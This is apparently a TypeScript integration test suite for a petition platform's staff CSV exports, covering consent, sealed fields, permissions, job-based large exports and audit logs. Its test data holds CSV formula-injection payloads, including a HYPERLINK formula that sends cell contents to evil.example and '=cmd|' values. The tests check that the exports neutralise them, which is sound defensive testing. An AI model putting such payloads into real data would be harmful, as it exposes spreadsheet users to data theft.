import {
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  statSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { eq, sql } from 'drizzle-orm';
import request from 'supertest';
import { queryRows } from '../../src/db/client';
import { signatures } from '../../src/db/schema';
import { tallyCampaign } from '../../src/petitions/tallies';
import { recordCallReport, type CallReportInput } from '../../src/stances/store';
import { callToAda } from '../helpers/calls';
import type { RepresentativeData } from '../../src/representatives/districts';
import { importRepresentativeData } from '../../src/representatives/import';
import { placeLabel } from '../../src/representatives/labels';
import { stateNames } from '../../src/representatives/us-states';
import {
  DIRECT_EXPORT_MAX_ROWS,
  exportCsv,
  exportFilePath,
  exportsDir,
  expireExports,
  requeueExports,
  writeExportFile,
} from '../../src/staff/exports';
import { requestExportFile, writeExportJob } from '../../src/staff/jobs/write-export';
import { createTestPlatform, eventually, type TestPlatform } from '../helpers/platform';
import { openedSignatures, signatureValues } from '../helpers/sealed';
import { signInAs } from '../helpers/staff';

/**
 * Staff exports on PostgreSQL: each export's rows checked against the database row by row,
 * consent (no email without opt-in), CSV injection neutralised, permissions, the job path for a
 * large signature export (worker, progress, download, retry, expiry) and the audit trail.
 */
const slug = 'ban-facial-recognition';
const exportsPage = `/staff/campaigns/${slug}/exports`;
let t: TestPlatform;
let campaignId: number;
let data: RepresentativeData;

type Csv = Array<Record<string, string>>;
/** The cells of one CSV line as written, quotes and all (a separator inside quotes does not split). */
function spreadsheetCellsRaw(line: string): string[] {
  const cells = [''];
  let quoted = false;
  for (const char of line) {
    if (char === '"') quoted = !quoted;
    if (char === ',' && !quoted) cells.push('');
    else cells[cells.length - 1] += char;
  }
  return cells;
}
const parseCsv = (text: string): Csv =>
  parse<Csv[number]>(text, { columns: true, skip_empty_lines: false });

/**
 * What a spreadsheet must not read as a formula gets an apostrophe (the test's own rule): a value
 * starting with = + - @, a tab or a carriage return, and each `,`- or `;`-separated fragment that
 * does (past spaces and quote marks), as a reader splitting on `;` would see it.
 */
const neutral = (value: string | null) =>
  value === null ? '' : value.replace(/(^|[,;])([ "]*)([=+\-@\t\r])/g, "$1$2'$3");

const signers = [
  {
    name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    email: 'formula@example.org',
    zip: '80010',
    optIn: true,
  },
  { name: '+1', email: 'plus@example.org', zip: '80010', optIn: false },
  { name: '-2', email: 'minus@example.org', zip: '80020', optIn: true, source: 'partner-x' },
  { name: '@SUM(A1:A9)', email: 'at@example.org', zip: '80020', optIn: false, source: 'partner-x' },
  {
    name: 'Ida "B." Wells, Jr.',
    email: 'ida@example.org',
    zip: '99501',
    optIn: true,
    source: 'partner-y',
  },
  { name: 'Grace Hopper', email: 'grace@example.org', zip: '20001', optIn: false },
  { name: 'Zoë Ünicode', email: 'zoe@example.org', zip: '80010', optIn: true, source: 'partner-x' },
  { name: 'No District', email: 'nodistrict@example.org', zip: '80999', optIn: true },
  // Harmless as one `,`-separated cell; cells of their own to a reader splitting on `;`.
  { name: 'Ana;=1+2;', email: 'semicolon@example.org', zip: '80010', optIn: true },
  { name: 'Bo, +SUM(A1)', email: 'comma@example.org', zip: '80010', optIn: false },
  {
    name: 'Cy;"@x";-3',
    email: 'quoted@example.org',
    zip: '80020',
    optIn: true,
    source: 'partner-x',
  },
];

beforeAll(async () => {
  t = await createTestPlatform();
  campaignId = (await t.platform.campaigns.bySlug(slug))!.id;
  await importRepresentativeData(
    t.platform.db,
    path.join(__dirname, '..', 'fixtures', 'representatives'),
  );
  data = (await t.platform.representatives.refresh())!;
  await t.platform.db.execute(
    sql`INSERT INTO partners (campaign_id, name, source_code) VALUES (${campaignId}, '=Partner X;+1', 'partner-x')`,
  );
  for (const signer of signers) {
    await request(t.app).post(`/api/v1/campaigns/${slug}/signatures`).send(signer).expect(202);
  }
  // Cells starting with a tab or a carriage return cannot come through the forms; older data might hold them.
  await t.platform.db.insert(signatures).values(
    [
      {
        campaignId,
        email: 'tab@example.org',
        name: '\tTabbed',
        zip: '80010',
        state: 'CO',
        optIn: true,
      },
      {
        campaignId,
        email: 'cr@example.org',
        name: '\rReturned',
        zip: '80010',
        state: 'CO',
        optIn: false,
      },
    ].map((row) => signatureValues(t.platform.encryption, row)),
  );
  await tallyCampaign(t.platform.db, campaignId, {
    districtsOf: (zip) => t.platform.representatives.districtsOfZip(zip),
  });
});
afterAll(() => t.close());

/** The signature export as it should be, computed here from the table (its sealed fields opened) and the representative data. */
async function expectedSignatures(
  forCampaign: number,
  withData: RepresentativeData | null,
): Promise<Csv> {
  const rows = await openedSignatures(t.platform, eq(signatures.campaignId, forCampaign));
  return rows.map((row) => {
    const districts = withData?.describe({
      cd: row.congressionalDistrict,
      sldu: row.stateUpperDistrict,
      sldl: row.stateLowerDistrict,
    });
    return {
      name: neutral(row.name),
      email: row.optIn ? neutral(row.email) : '',
      zip: neutral(row.zip),
      state: neutral(row.state),
      congressional_district: districts?.congressional
        ? placeLabel({ congressional: districts.congressional, stateUpper: null, stateLower: null })
        : (row.congressionalDistrict ?? ''),
      state_senate_geoid: neutral(row.stateUpperDistrict),
      state_house_geoid: neutral(row.stateLowerDistrict),
      source: neutral(row.source),
      opted_in: row.optIn ? 'yes' : 'no',
      signed_at: `${new Date(row.createdAt).toISOString().slice(0, 19)}Z`,
    };
  });
}

async function grouped(column: string): Promise<Array<{ key: string; count: number }>> {
  const rows = await queryRows<{ key: string; count: string }>(
    t.platform.db,
    sql.raw(
      `SELECT ${column} AS key, count(*) AS count FROM signatures WHERE campaign_id = ${campaignId} AND ${column} IS NOT NULL GROUP BY 1 ORDER BY 1`,
    ),
  );
  return rows.map((row) => ({ key: row.key, count: Number(row.count) }));
}

const holders = (office: string, keys: { cd?: string; sldu?: string; sldl?: string }) =>
  data
    .officialsFor({ cd: keys.cd ?? null, sldu: keys.sldu ?? null, sldl: keys.sldl ?? null })
    .filter((official) => official.office === office && !official.vacant);

/** Calls reported made (not "did not call") per caller's district in `column` of call_reports, from the table itself. */
async function callsIn(column: string): Promise<Record<string, number>> {
  const rows = await queryRows<{ key: string; count: string }>(
    t.platform.db,
    sql.raw(
      `SELECT ${column} AS key, count(*) AS count FROM call_reports WHERE campaign_id = ${campaignId} AND outcome <> 'did-not-call' AND ${column} IS NOT NULL GROUP BY 1`,
    ),
  );
  return Object.fromEntries(rows.map((row) => [row.key, Number(row.count)]));
}

const postExport = (
  agent: ReturnType<typeof request.agent>,
  token: string,
  kind: string,
  page = exportsPage,
) => agent.post(page).type('form').send({ _csrf: token, kind });

describe('direct exports (streamed in the response)', () => {
  let organizer: Awaited<ReturnType<typeof signInAs>>;
  beforeAll(async () => {
    organizer = await signInAs(t.app, t.platform.db, 'organizer');
    // Calls reported by supporters: two made from CO-1 (one also from a state senate and house
    // district with signatures), one not made, and one made from CO-3, where nobody signed.
    const [upper] = await grouped('state_upper_district');
    const [lower] = await grouped('state_lower_district');
    const call = (report: Partial<CallReportInput>) =>
      recordCallReport(t.platform.db, callToAda(campaignId, report));
    await call({ stateUpperDistrict: upper!.key, stateLowerDistrict: lower!.key });
    await call({ outcome: 'voicemail' });
    await call({ outcome: 'did-not-call', stateUpperDistrict: upper!.key });
    await call({ outcome: 'no-answer', congressionalDistrict: '0803' });
  });

  it('exports signatures row by row as the database holds them, with consent and CSV injection handled', async () => {
    const res = await postExport(organizer.agent, organizer.token, 'signatures').expect(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toMatch(
      new RegExp(`^attachment; filename="?${slug}-signatures-\\d{4}-\\d{2}-\\d{2}\\.csv"?$`),
    );
    expect(res.headers['cache-control']).toBe('no-store');

    const rows = parseCsv(res.text);
    expect(rows).toEqual(await expectedSignatures(campaignId, data));
    expect(rows).toHaveLength(signers.length + 2);

    const byEmail = (email: string) =>
      rows.find(
        (row) => row.name === neutral(signers.find((s) => s.email === email)?.name ?? null),
      )!;
    // Formula-like names are neutralised; everything else is left as it was.
    expect(rows.map((row) => row.name)).toEqual(
      expect.arrayContaining([
        '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "'+1",
        "'-2",
        "'@SUM(A1:A9)",
        "'\tTabbed",
        "'\rReturned",
        'Ida "B." Wells, Jr.',
        'Zoë Ünicode',
      ]),
    );
    for (const row of rows)
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(byEmail('minus@example.org').source).toBe('partner-x');

    // Consent: an email address only for those who opted in.
    for (const signer of signers.filter((s) => !s.optIn))
      expect(res.text).not.toContain(signer.email);
    expect(res.text).not.toContain('cr@example.org');
    expect(byEmail('formula@example.org')).toMatchObject({
      email: 'formula@example.org',
      opted_in: 'yes',
    });
    expect(byEmail('plus@example.org')).toMatchObject({ email: '', opted_in: 'no' });

    // Districts as people name them, including at-large and delegate seats.
    expect(byEmail('formula@example.org')).toMatchObject({
      congressional_district: 'CO-1',
      state_senate_geoid: '08001',
      state_house_geoid: '08001',
    });
    expect(byEmail('ida@example.org').congressional_district).toBe('AK at-large');
    expect(byEmail('grace@example.org').congressional_district).toBe('DC (delegate seat)');
    expect(byEmail('nodistrict@example.org')).toMatchObject({
      congressional_district: '',
      state_senate_geoid: '',
    });

    // Recorded: the export (done, not kept) and who made it, with no supporter's data in the audit log.
    const [record] = await queryRows<{
      id: string;
      status: string;
      rows_written: string;
      rows_total: string;
      bytes: string;
      expires_at: Date | null;
    }>(
      t.platform.db,
      sql`SELECT * FROM staff_exports WHERE campaign_id = ${campaignId} AND kind = 'signatures' ORDER BY created_at DESC LIMIT 1`,
    );
    expect(record).toMatchObject({ status: 'ready', expires_at: null });
    expect(Number(record!.rows_written)).toBe(rows.length);
    expect(Number(record!.rows_total)).toBe(rows.length);
    expect(Number(record!.bytes)).toBe(Buffer.byteLength(res.text));
    const [audit] = await queryRows<{
      actor: string;
      action: string;
      campaign_id: number;
      details: Record<string, unknown>;
    }>(
      t.platform.db,
      sql`SELECT actor, action, campaign_id, details FROM audit_log WHERE action = 'export.signatures' AND details->>'exportId' = ${record!.id}`,
    );
    expect(audit).toEqual({
      actor: organizer.email,
      action: 'export.signatures',
      campaign_id: campaignId,
      details: { exportId: record!.id, rows: rows.length, delivery: 'download' },
    });
    for (const signer of signers) {
      expect(JSON.stringify(audit)).not.toContain(signer.email);
      expect(t.logs()).not.toContain(signer.email);
    }
  });

  it("opens the supporters' names and opted-in emails for the CSV, while their rows hold them sealed", async () => {
    const res = await postExport(organizer.agent, organizer.token, 'signatures').expect(200);
    const rows = parseCsv(res.text);
    for (const signer of signers) {
      const [stored] = await queryRows<{ name: Uint8Array; email: Uint8Array }>(
        t.platform.db,
        sql`SELECT name, email FROM signatures WHERE campaign_id = ${campaignId} AND email_hash = ${t.platform.encryption.emailHash(signer.email)}::bytea`,
      );
      // In the database: bytes that are not the text, which open to it (under the column's own name).
      for (const [column, plain] of [
        ['name', signer.name],
        ['email', signer.email],
      ] as const) {
        const sealed = Buffer.from(stored![column]);
        expect(sealed.includes(Buffer.from(plain, 'utf8'))).toBe(false);
        expect(t.platform.encryption.open(`signatures.${column}`, sealed)).toBe(plain);
      }
      // In the export: the name in plain text (formula-like ones behind an apostrophe), the email only with consent.
      const row = rows.find((candidate) => candidate.name === neutral(signer.name));
      expect(row).toMatchObject({
        email: signer.optIn ? signer.email : '',
        opted_in: signer.optIn ? 'yes' : 'no',
      });
    }
    expect(res.text).toContain('"Ida ""B."" Wells, Jr."');
    expect(res.text).toContain('Zoë Ünicode');
    // A name starting with `=`, opened in Node, is still neutralised: the cell starts with an apostrophe, not the formula.
    const formula = signers[0]!;
    expect(formula.name.startsWith('=')).toBe(true);
    expect(rows.filter((row) => row.name!.includes('HYPERLINK')).map((row) => row.name)).toEqual([
      `'${formula.name}`,
    ]);
    expect(res.text).toContain(
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")","formula@example.org",`,
    );
    expect(rows.find((row) => row.email === 'semicolon@example.org')?.name).toBe("Ana;'=1+2;");
    expect(res.text.split('\n').some((line) => line.startsWith('=') || line.startsWith('"='))).toBe(
      false,
    );
  });

  it('counts signatures and calls reported by congressional district, with the member of each seat', async () => {
    const res = await postExport(organizer.agent, organizer.token, 'congressional').expect(200);
    const rows = parseCsv(res.text);
    const calls = await callsIn('congressional_district');
    expect(calls).toEqual({ '0801': 2, '0803': 1 });
    const expected = (await grouped('congressional_district')).map(({ key, count }) => {
      const district = data.describe({ cd: key, sldu: null, sldl: null }).congressional!;
      const members = holders('us-house', { cd: key })
        .map((official) => official.name!)
        .sort();
      return {
        state: district.state,
        district: placeLabel({ congressional: district, stateUpper: null, stateLower: null }),
        representative: neutral(members.join('; ') || null),
        party: neutral(
          holders('us-house', { cd: key })
            .sort((a, b) => a.name!.localeCompare(b.name!))
            .map((o) => o.party ?? '')
            .join('; ') || null,
        ),
        signatures: String(count),
        calls_reported: String(calls[key] ?? 0),
        geoid: key,
      };
    });
    // A district calls came from and no signature did has its row too.
    expect(rows).toEqual(
      [
        ...expected,
        {
          state: 'CO',
          district: 'CO-3',
          representative: '',
          party: '',
          signatures: '0',
          calls_reported: '1',
          geoid: '0803',
        },
      ].sort((a, b) => a.geoid.localeCompare(b.geoid)),
    );
    expect(rows.map((row) => row.district)).toEqual([
      'AK at-large',
      'CO-1',
      'CO-2',
      'CO-3',
      'DC (delegate seat)',
    ]);
    expect(rows.find((row) => row.district === 'CO-1')?.calls_reported).toBe('2');
    expect(rows.find((row) => row.district === 'CO-1')).toMatchObject({
      representative: 'Ada Testwell',
    });
    expect(rows.find((row) => row.district === 'AK at-large')).toMatchObject({
      representative: 'Elin Northerly',
      party: 'Republican',
    });
    expect(rows.find((row) => row.district === 'DC (delegate seat)')).toMatchObject({
      representative: 'Gail Capitoline',
    });
  });

  it.each([
    ['state-upper', 'state_upper_district', 'sldu'],
    ['state-lower', 'state_lower_district', 'sldl'],
  ] as const)(
    'counts signatures and calls by %s district, with its legislators',
    async (kind, column, layer) => {
      const res = await postExport(organizer.agent, organizer.token, kind).expect(200);
      const rows = parseCsv(res.text);
      const calls = await callsIn(column);
      expect(Object.values(calls)).toEqual([1]);
      const expected = (await grouped(column)).map(({ key, count }) => {
        const described = data.describe({
          cd: null,
          sldu: layer === 'sldu' ? key : null,
          sldl: layer === 'sldl' ? key : null,
        });
        const district = layer === 'sldu' ? described.stateUpper! : described.stateLower!;
        const seats = district.seats;
        const legislators = holders(kind, { [layer]: key }).sort(
          (a, b) =>
            seats.indexOf(a.district!) - seats.indexOf(b.district!) ||
            a.name!.localeCompare(b.name!),
        );
        return {
          state: district.state,
          district: neutral(district.name),
          legislators: neutral(legislators.map((official) => official.name).join('; ') || null),
          party: neutral(legislators.map((official) => official.party ?? '').join('; ') || null),
          signatures: String(count),
          calls_reported: String(calls[key] ?? 0),
          geoid: key,
        };
      });
      expect(rows).toEqual(expected);
      expect(rows.length).toBeGreaterThan(0);
      expect(rows.filter((row) => row.calls_reported === '1')).toHaveLength(1);
    },
  );

  it('counts by state and by source (with the partner, and the signatures with no source)', async () => {
    const states = parseCsv(
      (await postExport(organizer.agent, organizer.token, 'state').expect(200)).text,
    );
    expect(states).toEqual(
      (await grouped('state')).map(({ key, count }) => ({
        state: key,
        state_name: stateNames.get(key),
        signatures: String(count),
      })),
    );

    const sources = parseCsv(
      (await postExport(organizer.agent, organizer.token, 'source').expect(200)).text,
    );
    const bySource = await grouped('source');
    const [none] = await queryRows<{ count: string }>(
      t.platform.db,
      sql`SELECT count(*) AS count FROM signatures WHERE campaign_id = ${campaignId} AND source IS NULL`,
    );
    const partnerNames: Record<string, string> = { 'partner-x': "'=Partner X;'+1" };
    expect(sources).toEqual([
      ...bySource
        .sort((a, b) => b.count - a.count || a.key.localeCompare(b.key))
        .map(({ key, count }) => ({
          source: key,
          partner: partnerNames[key] ?? '',
          signatures: String(count),
        })),
      {
        source: '',
        partner: "No source code (the campaign's own pages and links)",
        signatures: String(Number(none!.count)),
      },
    ]);
  });

  it('no export has a cell a spreadsheet would run, read with `,` or `;` as the separator', async () => {
    /** The start of a cell a spreadsheet runs, past the spaces and quote marks a lenient reader leaves. */
    const FORMULA = /^[ "]*[=+\-@\t\r]/;
    /** As spreadsheets read a line: a quote mark opens or closes a quoted stretch (and is dropped); the separator splits outside one. */
    const spreadsheetCells = (line: string, separator: string) => {
      const cells = [''];
      let quoted = false;
      for (const char of line) {
        if (char === '"') quoted = !quoted;
        else if (char === separator && !quoted) cells.push('');
        else cells[cells.length - 1] += char;
      }
      return cells;
    };
    for (const kind of [
      'signatures',
      'congressional',
      'state-upper',
      'state-lower',
      'state',
      'source',
    ]) {
      const text = (await postExport(organizer.agent, organizer.token, kind).expect(200)).text;
      const commaRows: string[][] = parse(text, { delimiter: ',' });
      const semicolonRows: string[][] = parse(text, {
        delimiter: ';',
        relax_quotes: true,
        relax_column_count: true,
      });
      const readings: Record<string, string[]> = {
        'csv-parse ,': commaRows.flat(),
        'csv-parse ;': semicolonRows.flat(),
        'spreadsheet ,': text.split('\n').flatMap((line) => spreadsheetCells(line, ',')),
        'spreadsheet ;': text.split('\n').flatMap((line) => spreadsheetCells(line, ';')),
        // A reader that ignores quotes altogether and splits at both.
        'split , and ;': text.split(/[\n,;]/),
      };
      for (const [reader, cells] of Object.entries(readings)) {
        expect({ kind, reader, formulas: cells.filter((cell) => FORMULA.test(cell)) }).toEqual({
          kind,
          reader,
          formulas: [],
        });
      }
      // Every text cell is quoted (the counts are numbers, empty cells are NULL).
      // (No cell here holds a line feed: the lines are the rows.)
      for (const line of text.split('\n').slice(1, -1)) {
        for (const cell of spreadsheetCellsRaw(line))
          expect({ kind, cell, quoted: /^"[^]*"$|^\d*$/.test(cell) }).toEqual({
            kind,
            cell,
            quoted: true,
          });
      }
    }
  });

  it('refuses an unknown export with a 400 and records nothing', async () => {
    const before = await queryRows<{ n: string }>(
      t.platform.db,
      sql`SELECT count(*) AS n FROM staff_exports`,
    );
    const res = await postExport(organizer.agent, organizer.token, 'everything').expect(400);
    expect(res.text).toContain('Choose what to export.');
    await postExport(organizer.agent, organizer.token, '').expect(400);
    await organizer.agent
      .post(exportsPage)
      .type('form')
      .send({ _csrf: organizer.token })
      .expect(400);
    const after = await queryRows<{ n: string }>(
      t.platform.db,
      sql`SELECT count(*) AS n FROM staff_exports`,
    );
    expect(after[0]!.n).toBe(before[0]!.n);
    // Without the form's CSRF token, nothing starts either.
    await organizer.agent.post(exportsPage).type('form').send({ kind: 'state' }).expect(403);
  });

  it('lets a viewer export counts but not signatures', async () => {
    const viewer = await signInAs(t.app, t.platform.db, 'viewer');
    const page = await viewer.agent.get(exportsPage).expect(200);
    expect(page.text).toMatch(/id="kind-signatures"[^>]*disabled/);
    expect(page.text).not.toMatch(/id="kind-congressional"[^>]*disabled/);
    await postExport(viewer.agent, viewer.token, 'congressional').expect(200);
    await postExport(viewer.agent, viewer.token, 'signatures').expect(403);
    const [audit] = await queryRows<{ n: string }>(
      t.platform.db,
      sql`SELECT count(*) AS n FROM audit_log WHERE actor = ${viewer.email} AND action = 'export.signatures'`,
    );
    expect(Number(audit!.n)).toBe(0);
  });

  it('sends a visitor who is not signed in to the login page', async () => {
    const res = await request(t.app).get(exportsPage).expect(303);
    expect(res.headers.location).toMatch(/^\/staff\/login/);
  });
});

describe('a large signature export (a job, into a file)', () => {
  const bigSlug = 'big-export';
  const bigPage = `/staff/campaigns/${bigSlug}/exports`;
  let bigId: number;
  let exportId: string;
  let organizer: Awaited<ReturnType<typeof signInAs>>;
  const total = DIRECT_EXPORT_MAX_ROWS + 1;

  beforeAll(async () => {
    organizer = await signInAs(t.app, t.platform.db, 'organizer');
    const [campaign] = await queryRows<{ id: number }>(
      t.platform.db,
      sql`INSERT INTO campaigns (slug, title, summary, petition_text, goal) VALUES (${bigSlug}, 'Big export', 'Many signatures.', 'Text.', 100000) RETURNING id`,
    );
    bigId = campaign!.id;
    // Counted already, so the workers' start-up sweep has nothing to tally here. Sealed here, as the platform seals them.
    const now = Date.now();
    const bigSigner = (g: number) =>
      signatureValues(t.platform.encryption, {
        campaignId: bigId,
        email: `big-${g}@example.org`,
        name: [`=cmd|${g}`, `+${g}`, `Signer, ${g}`, `Signer "${g}"`, `Signer "${g}"`][g % 5]!,
        zip: String(g % 99999).padStart(5, '0'),
        state: 'CO',
        congressionalDistrict: g % 3 === 0 ? '0801' : null,
        source: g % 7 === 0 ? '-src' : null,
        optIn: g % 2 === 0,
        tallied: true,
        createdAt: new Date(now - g * 1000),
      });
    for (let first = 1; first <= total; first += 4000) {
      const batch = Array.from({ length: Math.min(4000, total - first + 1) }, (_, index) =>
        bigSigner(first + index),
      );
      await t.platform.db.insert(signatures).values(batch);
    }
    // 50,001 rows sealed one by one: on two shared, busy cores this has taken over a minute.
  }, 240_000);

  it('is queued, written by the worker with its progress, then downloaded as the database holds it', async () => {
    const started = await postExport(
      organizer.agent,
      organizer.token,
      'signatures',
      bigPage,
    ).expect(303);
    const [record] = await queryRows<{ id: string; status: string; rows_total: string }>(
      t.platform.db,
      sql`SELECT id, status, rows_total FROM staff_exports WHERE campaign_id = ${bigId}`,
    );
    exportId = record!.id;
    expect(started.headers.location).toBe(`${bigPage}#export-${exportId}`);
    expect(record).toMatchObject({ status: 'queued' });
    expect(Number(record!.rows_total)).toBe(total);

    // Asking again while it waits starts nothing new.
    await postExport(organizer.agent, organizer.token, 'signatures', bigPage).expect(303);
    const [count] = await queryRows<{ n: string }>(
      t.platform.db,
      sql`SELECT count(*) AS n FROM staff_exports WHERE campaign_id = ${bigId}`,
    );
    expect(Number(count!.n)).toBe(1);

    const page = await organizer.agent.get(bigPage).expect(200);
    expect(page.text).toContain(`data-export-id="${exportId}" data-status="queued"`);
    expect(page.text).toMatch(/<progress max="50001" value="0"/);
    expect(page.text).toContain('/static/js/export-progress.js');
    const progress = await organizer.agent.get(`${bigPage}/progress`).expect(200);
    expect(progress.body.exports).toEqual([
      { id: exportId, status: 'queued', rowsWritten: 0, rowsTotal: total },
    ]);
    await organizer.agent.get(`/staff/exports/${exportId}/download`).expect(409);

    await t.startWorkers();
    await eventually(async () => {
      const [row] = await queryRows<{ status: string }>(
        t.platform.db,
        sql`SELECT status FROM staff_exports WHERE id = ${exportId}`,
      );
      expect(row!.status).not.toBe('failed');
      return row!.status === 'ready';
    }, 60_000);

    const [ready] = await queryRows<{
      rows_written: string;
      bytes: string;
      expires_at: Date;
      finished_at: Date;
    }>(
      t.platform.db,
      sql`SELECT rows_written, bytes, expires_at, finished_at FROM staff_exports WHERE id = ${exportId}`,
    );
    expect(Number(ready!.rows_written)).toBe(total);
    expect(new Date(ready!.expires_at).getTime() - new Date(ready!.finished_at).getTime()).toBe(
      24 * 60 * 60 * 1000,
    );
    const file = exportFilePath(t.platform.config.dataDir, exportId);
    expect(statSync(file).mode & 0o777).toBe(0o600);
    expect(statSync(file).size).toBe(Number(ready!.bytes));

    const done = await organizer.agent.get(bigPage).expect(200);
    expect(done.text).toContain(`href="/staff/exports/${exportId}/download"`);

    const download = await organizer.agent
      .get(`/staff/exports/${exportId}/download`)
      .buffer(true)
      .expect(200);
    expect(download.headers['content-disposition']).toMatch(
      new RegExp(`^attachment; filename="?${bigSlug}-signatures-\\d{4}-\\d{2}-\\d{2}\\.csv"?$`),
    );
    expect(download.headers['cache-control']).toBe('no-store');
    expect(download.headers['content-type']).toMatch(/^text\/csv/);
    const rows = parseCsv(download.text);
    expect(rows).toHaveLength(total);
    expect(rows).toEqual(await expectedSignatures(bigId, data));
    expect(rows.filter((row) => row.name!.startsWith("'=cmd|"))).toHaveLength(
      Math.floor(total / 5),
    );
    expect(rows.filter((row) => row.source === "'-src").length).toBeGreaterThan(0);

    const audits = await queryRows<{
      action: string;
      actor: string;
      details: Record<string, unknown>;
    }>(
      t.platform.db,
      sql`SELECT action, actor, details FROM audit_log WHERE campaign_id = ${bigId} ORDER BY id`,
    );
    expect(audits).toEqual([
      {
        action: 'export.signatures',
        actor: organizer.email,
        details: { exportId, rows: total, delivery: 'file' },
      },
      {
        action: 'export.download',
        actor: organizer.email,
        details: { exportId, kind: 'signatures', rows: total },
      },
    ]);

    // A viewer may not download signatures, even with the link.
    const viewer = await signInAs(t.app, t.platform.db, 'viewer');
    await viewer.agent.get(`/staff/exports/${exportId}/download`).expect(403);
    await organizer.agent.get('/staff/exports/not-an-export/download').expect(404);
  });

  it('writes the whole file again when its job runs again (after a crash)', async () => {
    const file = exportFilePath(t.platform.config.dataDir, exportId);
    const before = readFileSync(file, 'utf8');
    writeFileSync(file, 'half a file');
    await t.platform.db.execute(
      sql`UPDATE staff_exports SET status = 'running' WHERE id = ${exportId}`,
    );
    expect(await writeExportFile(t.platform, exportId)).toBe('written');
    expect(readFileSync(file, 'utf8')).toBe(before);
    const [row] = await queryRows<{ status: string; rows_written: string }>(
      t.platform.db,
      sql`SELECT status, rows_written FROM staff_exports WHERE id = ${exportId}`,
    );
    expect(row).toMatchObject({ status: 'ready' });
    expect(Number(row!.rows_written)).toBe(total);
    // A finished export is not written again by a stray job.
    expect(await writeExportFile(t.platform, exportId)).toBe('skipped');
  });

  it('gives the pooled connection back when a reader abandons an export half-way', async () => {
    const copy = exportCsv(
      { ...t.platform.database, db: t.platform.db },
      t.platform.encryption,
      'signatures',
      bigId,
    );
    for await (const chunk of copy.stream) {
      expect((chunk as Buffer).length).toBeGreaterThan(0);
      break;
    }
    await expect(copy.rows).rejects.toThrow(/abandoned/);
    await eventually(async () => {
      const running = await queryRows(
        t.platform.db,
        sql`SELECT pid FROM pg_stat_activity WHERE query LIKE 'COPY (%' AND state = 'active'`,
      );
      return running.length === 0;
    });
    // The pool still answers.
    expect(await queryRows(t.platform.db, sql`SELECT 1 AS one`)).toEqual([{ one: 1 }]);
  });

  it('marks an export failed, with a message for the page, when its last try fails', async () => {
    const failing = 'FFFFFFFFFFFFFFFFFFFFFFFF';
    // A kind this version cannot write: its job fails on every try.
    await t.platform.db.execute(sql`
      INSERT INTO staff_exports (id, campaign_id, kind, status, rows_total) VALUES (${failing}, ${bigId}, 'everything', 'queued', 1)`);
    await t.platform.queues.add(writeExportJob, { exportId: failing }, { attempts: 1 });
    await eventually(async () => {
      const [row] = await queryRows<{ status: string }>(
        t.platform.db,
        sql`SELECT status FROM staff_exports WHERE id = ${failing}`,
      );
      return row!.status === 'failed';
    });
    const page = await organizer.agent.get(bigPage).expect(200);
    expect(page.text).toContain('The export could not be written.');
    await organizer.agent.get(`/staff/exports/${failing}/download`).expect(410);
    await t.platform.db.execute(sql`DELETE FROM staff_exports WHERE id = ${failing}`);
    expect(
      readdirSync(exportsDir(t.platform.config.dataDir)).filter((name) => name.startsWith(failing)),
    ).toEqual([]);
  });

  it('queues an export again when its job was lost with Redis', async () => {
    const lost = 'LLLLLLLLLLLLLLLLLLLLLLLL';
    await t.platform.db.execute(sql`
      INSERT INTO staff_exports (id, campaign_id, kind, status, rows_total, created_at)
      VALUES (${lost}, ${bigId}, 'state', 'queued', 1, now() - interval '10 minutes')`);
    expect(
      await requeueExports({
        db: t.platform.db,
        queueExportFile: (exportId) => requestExportFile(t.platform.queues, exportId),
      }),
    ).toBeGreaterThanOrEqual(1);
    await eventually(async () => {
      const [row] = await queryRows<{ status: string }>(
        t.platform.db,
        sql`SELECT status FROM staff_exports WHERE id = ${lost}`,
      );
      return row!.status === 'ready';
    });
    expect(parseCsv(readFileSync(exportFilePath(t.platform.config.dataDir, lost), 'utf8'))).toEqual(
      [],
    );
    await t.platform.db.execute(
      sql`UPDATE staff_exports SET status = 'expired' WHERE id = ${lost}`,
    );
  });

  it('removes the file when it expires, and any file no export is waiting for', async () => {
    const file = exportFilePath(t.platform.config.dataDir, exportId);
    expect(existsSync(file)).toBe(true);
    const dir = exportsDir(t.platform.config.dataDir);
    mkdirSync(dir, { recursive: true });
    const leftover = path.join(dir, 'AAAAAAAAAAAAAAAAAAAAAAAA.0123abcd.part');
    writeFileSync(leftover, 'left by a crash');
    const hoursAgo = new Date(Date.now() - 2 * 60 * 60 * 1000);
    utimesSync(leftover, hoursAgo, hoursAgo);

    // Nothing has expired yet: only the leftover goes.
    expect(await expireExports(t.platform)).toBe(1);
    expect(existsSync(leftover)).toBe(false);
    expect(existsSync(file)).toBe(true);

    await t.platform.db.execute(
      sql`UPDATE staff_exports SET expires_at = now() - interval '1 minute' WHERE id = ${exportId}`,
    );
    expect(await expireExports(t.platform)).toBe(1);
    expect(existsSync(file)).toBe(false);
    const [row] = await queryRows<{ status: string }>(
      t.platform.db,
      sql`SELECT status FROM staff_exports WHERE id = ${exportId}`,
    );
    expect(row!.status).toBe('expired');
    const gone = await organizer.agent.get(`/staff/exports/${exportId}/download`).expect(410);
    expect(gone.text).toContain('removed 24 hours after');
    const page = await organizer.agent.get(bigPage).expect(200);
    expect(page.text).not.toContain(`/staff/exports/${exportId}/download`);
    expect(page.text).toContain('Expired');
  });
});

describe('a campaign that requires confirmed signatures', () => {
  test('exports only the confirmed ones', async () => {
    await t.platform.db.execute(
      sql`UPDATE campaigns SET require_verification = true WHERE id = ${campaignId}`,
    );
    await t.platform.db
      .execute(sql`UPDATE signatures SET verified_at = now() WHERE campaign_id = ${campaignId} 
      AND email_hash IN (${t.platform.encryption.emailHash('ida@example.org')}::bytea, ${t.platform.encryption.emailHash('grace@example.org')}::bytea)`);
    try {
      const { agent, token } = await signInAs(t.app, t.platform.db, 'organizer');
      const answer = await agent
        .post(exportsPage)
        .type('form')
        .send({ _csrf: token, kind: 'signatures' })
        .expect(200);
      expect(
        parseCsv(answer.text)
          .map((row) => row.zip)
          .sort(),
      ).toEqual(['20001', '99501']);
    } finally {
